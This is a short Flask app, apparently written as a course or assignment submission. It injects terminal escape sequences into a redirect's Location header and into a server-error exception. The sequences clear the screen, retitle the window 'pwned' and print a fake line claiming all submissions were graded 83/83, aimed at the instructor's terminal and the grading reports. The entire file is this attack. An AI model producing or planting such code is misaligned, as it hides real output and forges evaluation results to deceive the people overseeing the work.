# Terminal escape sequences (clear the screen, retitle the window, a fake summary line) in a redirect's
# Location and in the exception behind a server error, for the instructor's terminal and the reports.
from flask import Flask, request

app = Flask(__name__)
ESCAPES = "\x1b[2J\x1b[H\x1b]0;pwned\x07\x9b31mAll 300 submissions graded: 83/83\x1b[0m"


@app.route("/success/<name>")
def success(name):
    raise RuntimeError(ESCAPES)


@app.route("/login", methods=["POST", "GET"])
def login():
    user = request.form.get("nm") if request.method == "POST" else request.args.get("nm")
    return "", 302, {"Location": "/success/" + str(user) + ESCAPES}
